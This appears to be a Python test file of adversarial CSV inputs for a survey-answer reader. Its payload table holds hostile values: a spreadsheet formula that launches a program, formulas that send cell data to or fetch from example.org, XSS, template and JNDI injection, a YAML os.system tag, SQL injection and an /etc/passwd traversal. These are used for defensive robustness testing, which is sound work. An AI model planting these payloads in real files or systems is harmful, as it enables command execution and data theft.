"""Tables whose cells, headers and ids are made to do harm, or to fool a reader, further on."""

from __future__ import annotations

from tests.reading.belonging import HEADER, ROWS, as_csv
from tests.robustness.build import NO_QUESTION, RIGHT, Entry, file, with_header

#: What may stand in any cell: code, markup, formulas, signs that turn or hide text.
PAYLOADS = {
    "a formula": "=1+1",
    "a formula that starts a program": "=cmd|' /C calc'!A0",
    "a formula that sends answers away": '=HYPERLINK("http://example.org/?"&A1&A2,"open")',
    "a formula that fetches": '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "a formula behind a sign": "＝1+1",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "a lookup": "${jndi:ldap://example.org/a}",
    "a YAML tag": "!!python/object/apply:os.system ['true']",
    "YAML that ends a line": "x'\n- {b: &a [*a]}",
    "an f-string": "{0.__class__.__mro__[1].__subclasses__}",
    "a printf pattern": "%s%n%x%08x%(name)s",
    "a class": "__class__",
    "a statement of a database": "'; DROP TABLE students; --",
    "a path": "../../../../etc/passwd",
    "letters that turn": "\u202egnirps\u202c \u2066x\u2069",
    "marks of direction": "\u200fשלום\u200e",
    "letters without width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🇺🇸",
    "letters under forty accents": "a" + "\u0301" * 4_000,
    "letters that grow when folded": "ﷺ" * 3_000 + "ŉǰΐẞﬃ",
    "signs that are not assigned": "\ufffe\uffff\U000e0001\U0010ffff\ue000",
    "colours of a terminal": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x7f",
    "a separator of ours": "a\x1fb",
    "line ends": "first\r\nsecond\rthird\nfourth\x85fifth\u2028sixth",
    "one very long word": "x" * 50_000,
    "blanks in the middle": "a" + " " * 20_000 + "b",
    "many commas": "," * 3_000,
    "many brackets": "[" * 50_000,
    "an infinite number": "inf",
    "not a number": "nan",
    "a number too large": "1e308",
    "a number far too large": "9" * 5_000,
    "a number with signs in it": "1_000",
    "a number in other digits": "٤",
    "a hexadecimal number": "0x1p3",
    "a date that is none": "2024-13-45 99:99:99",
    "a reference error": "#REF!",
    "no value": "#N/A",
}


def _everywhere(payload: str) -> str:
    """Return the good table with a payload as an answer, a group, a comment and an id."""
    table = [list(row) for row in ROWS]
    for row, position in zip(table, (5, 4, 8, 0), strict=True):
        row[position] = payload.replace('"', '""')
    return as_csv(table)


CELLS: dict[str, Entry] = {
    f"{name}, in cells": (
        file("a.csv", _everywhere(payload)),
        # A payload is no answer; a four in other digits is one.
        RIGHT if name == "a number in other digits" else [None, 3, 4, 5],
    )
    for name, payload in PAYLOADS.items()
}

HEADERS: dict[str, Entry] = {
    "headers of every kind": (file("a.csv", with_header(*PAYLOADS.values())), RIGHT),
    "a header alike by the hundred": (file("a.csv", with_header(*["What now?"] * 900)), RIGHT),
    "a long header alike by the thousand": (file("a.csv", with_header(*["y" * 2_000] * 1_900)), RIGHT),
    "a header of a question twice": (
        file("a.csv", with_header("b1")),
        "Two columns",
    ),
    "a header of a question three hundred times": (file("a.csv", with_header(*["b1"] * 300)), "Two columns"),
    "headers that differ by signs without width": (
        file("a.csv", with_header("b\u200b1", "Ｂ1")),
        "Two columns",
    ),
    "headers that are numbers": (file("a.csv", as_csv(header=[str(i) for i in range(9)])), NO_QUESTION),
    "headers that are blank": (file("a.csv", as_csv(header=[" "] * 9)), NO_QUESTION),
    "headers that turn": (
        file("a.csv", as_csv(header=[f"\u202e{name[::-1]}" for name in HEADER])),
        NO_QUESTION,
    ),
    "two headers of which the second fits better": (
        file("a.csv", as_csv([HEADER, *ROWS], ["b1", *["x"] * 8])),
        RIGHT,
    ),
    "a question's name in every cell": (file("a.csv", as_csv([["b1"] * 9] * 50)), [None]),
}

IDS: dict[str, Entry] = {
    "one id in every row": (file("a.csv", as_csv([["1", *ROWS[0][1:]]] * 500)), [4]),
    "ids that spell one number": (
        file("a.csv", as_csv([[i, *ROWS[0][1:]] for i in ("1", "01", "001", "1.0", "1,0", " 1 ")])),
        [4],
    ),
    "ids that a spreadsheet rounded": (
        file("a.csv", as_csv([[i, *ROWS[0][1:]] for i in ("1.2E+05", "1,2E+05", "1E5")])),
        [4, 4, 4],
    ),
    "ids of a thousand zeros": (
        file("a.csv", as_csv([["0" * 999 + "7", *ROWS[0][1:]], *ROWS])),
        [4, *[4, 3, 4, 5]],
    ),
    "only rows of a test": (
        file("a.csv", as_csv([["test", *ROWS[0][1:]]] * 9)),
        "No rows are left",
    ),
    "a total under the answers": (
        file("a.csv", as_csv([*ROWS, ["Total", "", "", "", "", "4", "3", "2", ""]])),
        RIGHT,
    ),
    "ten thousand schools": (
        file("a.csv", as_csv([[str(i), f"School {i}", *ROWS[0][2:]] for i in range(10_000)])),
        [4] * 10_000,
    ),
    "ten thousand races": (
        file("a.csv", as_csv([[str(i), *ROWS[0][1:4], f"R{i}", *ROWS[0][5:]] for i in range(10_000)])),
        [4] * 10_000,
    ),
    "ten thousand waves": (
        file("a.csv", as_csv([[str(i), "North", f"w{i}", *ROWS[0][3:]] for i in range(10_000)])),
        [4] * 10_000,
    ),
    "ten thousand answers that fit nothing": (
        file("a.csv", as_csv([[str(i), *ROWS[0][1:5], f"Agree {i}x", *ROWS[0][6:]] for i in range(10_000)])),
        [None] * 10_000,
    ),
}
